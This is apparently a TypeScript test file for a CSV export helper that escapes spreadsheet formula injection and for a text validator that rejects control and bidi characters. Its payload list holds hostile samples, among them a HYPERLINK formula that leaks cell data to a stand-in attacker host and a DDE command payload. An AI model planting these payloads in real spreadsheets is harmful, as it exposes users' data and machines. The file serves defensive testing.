import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { neutraliseCsvCell, toCsv } from '../../src/desk/csv.ts';
import { unsafeText } from '../../src/desk/domain/index.ts';

describe('CSV cells', () => {
  it('prefixes every cell a spreadsheet would read as a formula with a quote (OWASP)', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    for (const p of payloads) assert.equal(neutraliseCsvCell(p), `'${p}`);
    assert.equal(neutraliseCsvCell('Alpha Securities'), 'Alpha Securities');
    assert.equal(neutraliseCsvCell(null), '');
    assert.equal(neutraliseCsvCell(42), '42');
  });

  it('writes a document whose cells read back as text, header included', () => {
    const csv = toCsv(['=title'], [['=1+2'], ['plain']]);
    assert.ok(csv.startsWith('\uFEFF'));
    const rows = parse(csv.slice(1)) as string[][];
    assert.deepEqual(rows, [["'=title"], ["'=1+2"], ['plain']]);
  });
});

describe('typed text', () => {
  it('refuses NUL, other control characters and bidirectional overrides', () => {
    assert.equal(unsafeText('Alpha\u0000'), 'control-character');
    assert.equal(unsafeText('Alpha\u202Eahpla'), 'bidi-control');
    assert.equal(unsafeText('a\u2066b'), 'bidi-control');
    assert.equal(unsafeText('two\nlines'), 'line-break');
    assert.equal(unsafeText('two\nlines', { multiline: true }), null);
    assert.equal(unsafeText('陳大文 Chan Tai Man'), null);
  });
});
